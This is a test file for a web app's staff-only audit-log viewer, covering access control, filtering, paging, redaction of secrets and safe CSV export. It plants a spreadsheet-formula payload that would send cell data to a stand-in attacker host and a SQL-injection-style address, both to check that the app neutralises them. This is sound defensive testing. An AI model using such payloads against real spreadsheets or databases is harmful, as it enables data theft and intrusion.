// The audit viewer (issue 15 item 3): only staff read the log; each filter narrows it as staff
// expect (actor, customer, action or family, whole UTC days, both ends inclusive), pages add up
// and never repeat a row, secrets never show, and the CSV honours the filters and is safe to
// open in a spreadsheet.
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AuditAction, AuditPage } from '@secure-vault/shared/audit';
import { createAccount } from '../../auth/accounts.ts';
import { writeAudit } from '../../auth/audit.ts';
import { call } from '../../test/auth-helpers.ts';
import { createCustomer, type Customer, openSession } from '../../test/customers.ts';
import { staffChange } from '../../test/approvals.ts';
import { createStaffMember } from '../../test/money-movements.ts';
import { createTestApp, type TestApp } from '../../test/test-app.ts';

let t: TestApp;
let staff: Customer;
let alice: Customer;
let bob: Customer;
/** A customer whose address a spreadsheet would read as a formula. */
let hostile: { userId: string; email: string };

const at = (iso: string) => new Date(iso);

async function audit(
  action: AuditAction,
  actorId: string | null,
  subjectUserId: string | null,
  when: string,
  details: Record<string, unknown> = {},
) {
  await writeAudit(t.ctx.db, {
    action,
    actorId,
    subjectUserId,
    at: at(when),
    details,
    ip: '10.1.2.3',
  });
}

beforeAll(async () => {
  t = await createTestApp();
  staff = await createStaffMember(t);
  alice = await createCustomer(t, { label: 'alice' });
  bob = await createCustomer(t, { label: 'bob' });
  const email = `-2+3.${randomUUID().slice(0, 8)}@example.com`;
  const account = await createAccount(t.ctx.db, {
    email,
    passwordHash: 'not-a-real-hash',
    roles: ['user'],
    now: t.ctx.clock.now(),
  });
  hostile = { userId: account.userId, email };

  // March 2026, far from the clock's November: only these rows fall in it. Around the edges of
  // 1 March in UTC, and a few of Bob's the same instant (the order falls back to the id).
  await audit('auth.sign_in', alice.userId, alice.userId, '2026-02-28T23:59:59.999Z');
  await audit('auth.sign_in', alice.userId, alice.userId, '2026-03-01T00:00:00.000Z');
  await audit('auth.sign_out', alice.userId, alice.userId, '2026-03-01T23:59:59.999Z');
  await audit('admin.password_reset', staff.userId, alice.userId, '2026-03-02T00:00:00.000Z', {
    revokedSessions: 1,
  });
  for (let i = 0; i < 5; i++) {
    await audit('auth.sign_in_failed', null, bob.userId, '2026-03-10T12:00:00.000Z', {
      email: bob.email,
      attempt: i,
    });
  }
  await audit('admin.book_balance_set', staff.userId, bob.userId, '2026-03-11T09:00:00.000Z', {
    from: '0.00',
    to: '1500.00',
  });
  await audit('auth.password_reset', null, hostile.userId, '2026-03-12T09:00:00.000Z', {
    method: 'email',
    token: 'never-shown',
    nested: { recoveryCode: 'never-shown-either', kept: 'yes' },
  });
}, 60_000);
afterAll(() => t.close());

const march = 'from=2026-03-01&to=2026-03-31';

async function list(query: string, cookie = staff.cookie) {
  const res = await call(t, 'GET', `/admin/audit?${query}`, undefined, { cookie });
  return res;
}

async function page(query: string): Promise<AuditPage> {
  const res = await list(query);
  expect(res.statusCode, res.body).toBe(200);
  return res.json<AuditPage>();
}

async function csv(query: string, cookie = staff.cookie) {
  return call(t, 'GET', `/admin/audit.csv?${query}`, undefined, { cookie });
}

describe('who may read the audit log', () => {
  it('refuses anonymous callers and customers, the list and the CSV alike', async () => {
    for (const url of ['/admin/audit', '/admin/audit.csv']) {
      const anonymous = await call(t, 'GET', url);
      expect([anonymous.statusCode, anonymous.json().error.code]).toEqual([401, 'UNAUTHENTICATED']);
      const customer = await call(t, 'GET', url, undefined, { cookie: alice.cookie });
      expect([customer.statusCode, customer.json().error.code]).toEqual([403, 'FORBIDDEN']);
      // Staff without the second factor in this session are refused too.
      const passwordOnly = await call(t, 'GET', url, undefined, {
        cookie: await openSession(t, staff.userId),
      });
      expect(passwordOnly.json().error.code).toBe('STAFF_SECOND_FACTOR_REQUIRED');
    }
  });

  it('answers staff, never cached', async () => {
    const res = await list('');
    expect(res.statusCode).toBe(200);
    expect(res.headers['cache-control']).toBe('no-store');
  });
});

describe('the list', () => {
  it('shows each entry with who did it, whose account, the IP and the details, newest first', async () => {
    const { entries, total, page: number, pageSize } = await page(march);
    expect([total, number, pageSize]).toEqual([10, 1, 50]);
    expect(entries.map((entry) => entry.at)).toEqual(
      [...entries.map((entry) => entry.at)].sort().reverse(),
    );
    const reset = entries.find((entry) => entry.action === 'admin.password_reset');
    expect(reset).toMatchObject({
      at: '2026-03-02T00:00:00.000Z',
      actor: { id: staff.userId, email: staff.email },
      customer: { id: alice.userId, email: alice.email },
      ip: '10.1.2.3',
      details: { revokedSessions: 1 },
    });
    const failed = entries.find((entry) => entry.action === 'auth.sign_in_failed');
    expect(failed?.actor).toBeNull();
    expect(failed?.customer?.email).toBe(bob.email);
  });

  it('never shows a value under a key that names a secret, and keeps everything else', async () => {
    const { entries } = await page(`customer=${hostile.userId}`);
    const reset = entries.find((entry) => entry.action === 'auth.password_reset');
    expect(reset?.details).toEqual({ method: 'email', nested: { kept: 'yes' } });
    expect(JSON.stringify(entries)).not.toContain('never-shown');
  });

  it('narrows by actor, by id or exact address in any case', async () => {
    const byId = await page(`${march}&actor=${staff.userId}`);
    expect(byId.entries.map((entry) => entry.action).sort()).toEqual([
      'admin.book_balance_set',
      'admin.password_reset',
    ]);
    const byEmail = await page(`${march}&actor=${encodeURIComponent(staff.email.toUpperCase())}`);
    expect(byEmail.entries.map((entry) => entry.id)).toEqual(byId.entries.map((entry) => entry.id));
    // Bob's failed sign-ins have no actor: he did not act, his address was tried.
    const bobActs = await page(`${march}&actor=${encodeURIComponent(bob.email)}`);
    expect(bobActs.total).toBe(0);
  });

  it('narrows by customer', async () => {
    const bobs = await page(`${march}&customer=${encodeURIComponent(bob.email)}`);
    expect(bobs.total).toBe(6);
    expect(bobs.entries.every((entry) => entry.customer?.id === bob.userId)).toBe(true);
    const both = await page(`${march}&customer=${bob.userId}&actor=${staff.userId}`);
    expect(both.entries.map((entry) => entry.action)).toEqual(['admin.book_balance_set']);
  });

  it('finds nothing for an address or id no account has, rather than everything', async () => {
    for (const person of ['nobody@example.com', randomUUID(), "x'or'1'='1@example.com"]) {
      const found = await page(`actor=${encodeURIComponent(person)}`);
      expect([found.total, found.entries]).toEqual([0, []]);
      const about = await page(`customer=${encodeURIComponent(person)}`);
      expect(about.total).toBe(0);
    }
  });

  it('narrows by one action or by a family of actions', async () => {
    const failed = await page(`${march}&action=auth.sign_in_failed`);
    expect(failed.total).toBe(5);
    const auth = await page(`${march}&action=auth.`);
    expect(auth.total).toBe(8);
    expect(auth.entries.every((entry) => entry.action.startsWith('auth.'))).toBe(true);
    const admin = await page(`${march}&action=admin.`);
    expect(admin.entries.map((entry) => entry.action)).toEqual([
      'admin.book_balance_set',
      'admin.password_reset',
    ]);
    // The new book-balance decisions are actions the filter knows.
    expect((await page('action=admin.book_balance_approved')).total).toBe(0);
  });

  it('takes whole UTC days, both ends inclusive', async () => {
    const first = await page('from=2026-03-01&to=2026-03-01');
    expect(first.entries.map((entry) => entry.at)).toEqual([
      '2026-03-01T23:59:59.999Z',
      '2026-03-01T00:00:00.000Z',
    ]);
    const upTo = await page('to=2026-02-28&actor=' + alice.userId);
    expect(upTo.entries.map((entry) => entry.at)).toEqual(['2026-02-28T23:59:59.999Z']);
    const since = await page(`from=2026-03-02&to=2026-03-02`);
    expect(since.entries.map((entry) => entry.action)).toEqual(['admin.password_reset']);
    // From after to is a valid filter that matches nothing.
    expect((await page('from=2026-03-02&to=2026-03-01')).total).toBe(0);
  });

  it('pages with a stable order: the pages add up to the total, no row twice', async () => {
    const all = await page(march);
    const seen: string[] = [];
    for (let number = 1; number <= 4; number++) {
      const one = await page(`${march}&page=${number}&pageSize=3`);
      expect([one.total, one.page, one.pageSize]).toEqual([10, number, 3]);
      seen.push(...one.entries.map((entry) => entry.id));
    }
    expect(seen).toEqual(all.entries.map((entry) => entry.id));
    // Five rows share one instant: they come in the same order every time.
    const again = await page(`${march}&action=auth.sign_in_failed&page=2&pageSize=2`);
    const first = await page(`${march}&action=auth.sign_in_failed&page=2&pageSize=2`);
    expect(again.entries.map((entry) => entry.id)).toEqual(first.entries.map((entry) => entry.id));
    // Past the end: an empty page that still says how many there are.
    const past = await page(`${march}&page=9&pageSize=3`);
    expect([past.entries.length, past.total]).toEqual([0, 10]);
  });

  it('refuses filters it cannot take, with the reason on the field', async () => {
    for (const [query, field] of [
      ['action=admin.%25', 'action'],
      ['action=drop', 'action'],
      ['actor=not%20an%20address', 'actor'],
      ['customer=%40', 'customer'],
      [`customer=${'a'.repeat(250)}%40example.com`, 'customer'],
      ['from=2026-02-30', 'from'],
      ['to=0000-01-01', 'to'],
      ['pageSize=201', 'pageSize'],
      ['page=0', 'page'],
      ['extra=1', ''],
    ] as const) {
      const res = await list(query);
      expect(res.statusCode, query).toBe(400);
      expect(res.json().error.code, query).toBe('VALIDATION');
      if (field) {
        const paths = res.json().error.issues.map((issue: { path: string }) => issue.path);
        expect(paths, query).toContain(`querystring.${field}`);
      }
    }
    const dateIssue = (await list('from=2026-13-01')).json().error.issues[0];
    expect(dateIssue.message).toBe('admin:audit.errors.date');
  });
});

describe('the CSV export', () => {
  /** The lines of a CSV whose fields hold no line breaks (true of the audit export). */
  function rowsOf(text: string): string[] {
    expect(text.endsWith('\r\n')).toBe(true);
    return text.slice(0, -2).split('\r\n');
  }

  /** One line's cells as a spreadsheet reads them (RFC 4180 quoting undone). */
  function cellsOf(line: string): string[] {
    const cells: string[] = [];
    const field = /("(?:[^"]|"")*"|[^,"]*)(,|$)/y;
    while (field.lastIndex < line.length) {
      const match = field.exec(line);
      if (!match) throw new Error(`not CSV: ${line}`);
      const raw = match[1] ?? '';
      cells.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
      if (match[2] === '') break;
    }
    return cells;
  }

  it('is a download with a header row and one line per entry, honouring the filters', async () => {
    const res = await csv(`${march}&customer=${bob.userId}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const today = t.ctx.clock.now().toISOString().slice(0, 10);
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="secure-vault-audit-${today}.csv"`,
    );
    expect(res.headers['cache-control']).toBe('no-store');
    const [header, ...rows] = rowsOf(res.body);
    expect(header).toBe(
      'Time (UTC),Action,Action code,Actor email,Actor ID,Customer email,Customer ID,IP address,Details',
    );
    expect(rows).toHaveLength(6);
    const cells = cellsOf(rows[0] ?? '');
    expect(cells.slice(0, 8)).toEqual([
      '2026-03-11T09:00:00.000Z',
      'Book balance set',
      'admin.book_balance_set',
      staff.email,
      staff.userId,
      bob.email,
      bob.userId,
      '10.1.2.3',
    ]);
    expect(JSON.parse(cells[8] ?? '')).toEqual({ from: '0.00', to: '1500.00' });
    // The failed sign-ins have no actor: both of its cells are empty.
    for (const row of rows.slice(1)) {
      expect(cellsOf(row).slice(1, 6)).toEqual([
        'Sign-in failed',
        'auth.sign_in_failed',
        '',
        '',
        bob.email,
      ]);
    }

    const actions = rowsOf((await csv(`${march}&action=admin.`)).body).slice(1);
    expect(actions.map((row) => row.split(',')[2])).toEqual([
      'admin.book_balance_set',
      'admin.password_reset',
    ]);
    const nothing = rowsOf((await csv('actor=nobody%40example.com')).body);
    expect(nothing).toHaveLength(1);
  });

  it("names each action in the page's language, else the browser's, beside its code", async () => {
    const arabic = rowsOf((await csv(`${march}&action=admin.&language=ar`)).body).slice(1);
    expect(arabic.map((row) => cellsOf(row).slice(1, 3))).toEqual([
      ['تعيين الرصيد الدفتري', 'admin.book_balance_set'],
      ['إعادة تعيين كلمة المرور من الموظفين', 'admin.password_reset'],
    ]);
    const fromBrowser = await call(t, 'GET', `/admin/audit.csv?${march}&action=admin.`, undefined, {
      cookie: staff.cookie,
      headers: { 'accept-language': 'ar-AE,ar;q=0.9,en;q=0.5' },
    });
    expect(cellsOf(rowsOf(fromBrowser.body)[1] ?? '')[1]).toBe('تعيين الرصيد الدفتري');
    expect((await csv(`${march}&language=fr`)).statusCode).toBe(400);
  });

  it('escapes what a spreadsheet would run as a formula, and quotes what needs it', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    // Proposed by one staff member, approved by another: the approval audits the item added.
    const added = await staffChange(t, staff, 'POST', '/admin/valuables', {
      userId: hostile.userId,
      itemName: formula,
      itemType: 'jewelry',
      estimatedValue: '10.00',
    });
    expect(added.status).toBe('approved');
    const res = await csv(`customer=${encodeURIComponent(hostile.email)}`);
    const rows = rowsOf(res.body).slice(1);
    const addedRow = cellsOf(rows.find((row) => row.includes('admin.valuable_added')) ?? '');
    expect(addedRow).toHaveLength(9);
    // The customer's address begins with "-": it is text, not a formula.
    expect(addedRow[5]).toBe(`'${hostile.email}`);
    // The item name is whole inside the details, which a spreadsheet reads as text.
    expect(JSON.parse(addedRow[8] ?? '')).toMatchObject({ itemName: formula });
    for (const row of rows) {
      for (const cell of cellsOf(row)) expect(cell, row).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(res.body).not.toContain('never-shown');
  });

  it('refuses the same bad filters as the list', async () => {
    const res = await csv('action=nope');
    expect([res.statusCode, res.json().error.code]).toEqual([400, 'VALIDATION']);
    const paged = await csv('page=2');
    expect(paged.statusCode).toBe(400);
  });
});
